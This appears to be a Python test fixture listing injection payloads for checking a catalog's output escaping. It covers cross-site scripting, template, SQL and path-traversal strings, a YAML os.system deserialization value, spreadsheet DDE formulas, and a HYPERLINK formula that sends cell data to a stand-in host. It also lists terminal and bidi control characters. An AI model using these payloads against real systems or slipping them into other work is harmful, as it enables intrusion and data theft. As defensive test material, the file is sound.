"""Texts that somebody might write into a catalog to get something out of it: each tries another way out.

The ways are those of the OWASP cheat sheets on cross-site scripting, DOM clobbering and CSV injection, of the
CommonMark specification, and of ECMA-48 for terminals; written out from memory.
"""

MARKUP = (
    "<script>ran=1</script>",
    "</script><script>ran=1</script>",
    "<ScRiPt >ran=1</sCrIpT>",
    "<<script>ran=1//<</script>",
    "<img src=x onerror=ran=1>",
    "<img/src/onerror=ran=1>",
    '"><img src=x onerror="ran=1">',
    "'><img src=x onerror='ran=1'>",
    "`><img src=x onerror=`ran=1`>",
    '" autofocus onfocus="ran=1" x="',
    "' autofocus onfocus='ran=1' x='",
    " onmouseover=ran=1 ".strip(),
    "<svg onload=ran=1>",
    "<svg><script>ran=1</script></svg>",
    '<svg><a href="javascript:ran=1"><text y=9>x</text></a></svg>',
    "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran=1>",
    "--><script>ran=1</script><!--",
    "<!--",
    "]]><script>ran=1</script>",
    "<![CDATA[<script>ran=1</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e 'x'>]>&e;",
    "</title><script>ran=1</script>",
    "</style><script>ran=1</script><style>",
    "</textarea><script>ran=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=ran=1>'>",
    "<template><script>ran=1</script></template>",
    "<plaintext>",
    "<xmp>",
    "<base href=https://elsewhere.example/>",
    "<meta http-equiv=refresh content=0;url=https://elsewhere.example/>",
    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
    "<style>*{display:none}</style>",
    "<iframe src=javascript:ran=1></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=https://elsewhere.example/x>",
    "<form action=https://elsewhere.example/><input name=id></form>",
    "<a href=javascript:ran=1>x</a>",
    "<a href='&#x6a;avascript:ran=1'>x</a>",
    "<details open ontoggle=ran=1>",
    "<video><source onerror=ran=1>",
    "<form id=document><input name=body>",
    "&lt;script&gt;ran=1&lt;/script&gt;",
    "&#60;script&#62;ran=1&#60;/script&#62;",
    "&notit; &amp;amp; &#0; &copy",
    "javascript:ran=1",
    "data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==",
)
TEMPLATES_AND_DATA = (
    "{{ 7*7 }}{% raw %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{0} {name} %s %(name)s %n",
    '\\u003c/script\\u003e"}]}',
    '","__proto__":{"ran":1},"x":"',
    "__proto__",
    "constructor",
    "'; drop table prices; --",
    "../../../etc/passwd",
    "..\\..\\con",
    "!!python/object/apply:os.system [x]",
    "*all &all <<: *all",
    "%00%0d%0aSet-Cookie:x=1",
)
SHEETS = (
    "=1+1",
    '=HYPERLINK("https://elsewhere.example/?"&A1;"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"=1+1"',
    "x,=1+1",
    "x;=1+1",
    "'=1+1",
    "--1",
    "+",
)
MARKDOWN = (
    "[x](javascript:ran=1)",
    "![x](https://elsewhere.example/x.png)",
    "[x][y] [y]: https://elsewhere.example/",
    "<https://elsewhere.example/>",
    "| a | b | c |",
    "# heading",
    "> quoted",
    "- item",
    "* item",
    "1. item",
    "1) item",
    "```",
    "~~~ js",
    "***bold*** __strong__ ~~gone~~ `code`",
    "---",
    "===",
    "backslash at the end \\",
    "[^1] $x$ :smile: @name #1 <b>",
)  # fmt: skip
PAYLOADS = (*MARKUP, *TEMPLATES_AND_DATA, *SHEETS, *MARKDOWN)
ORDER = {text: place for place, text in enumerate(sorted(PAYLOADS))}


def payload(number: int) -> str:
    """One after the other, again and again."""
    return PAYLOADS[number % len(PAYLOADS)]


def plain(number: int) -> str:
    """A harmless text in place of that payload: as many of them, equal and in order where those are."""
    return f"Plain {ORDER[payload(number)]:02d}"


HIDDEN = (
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;https://elsewhere.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[1;1H",
    "\x9b31m",
    "\x07bell",
    "back\x08\x08\x08space",
    "carriage\rreturn",
    "line\nfeed",
    "tab\tstop",
    "nul\0nul",
    "form\x0cfeed",
    "delete\x7f",
    "bidi \u202eltr",
    "isolate \u2066x\u2069",
    "mark \u200e\u200f\u061c",
    "zero\u200bwidth",
    "joiner\u200d",
    "line\u2028separator",
    "paragraph\u2029separator",
    "next\u0085line",
    "bom\ufeffbom",
    "tag \U000e0041",
    "no-break\u00a0space",
    "soft\u00adhyphen",
    "private \ue000",
    "half \ud800",
)
"""What no author's file may hold, and what every output writes as an escape should it get there anyway."""
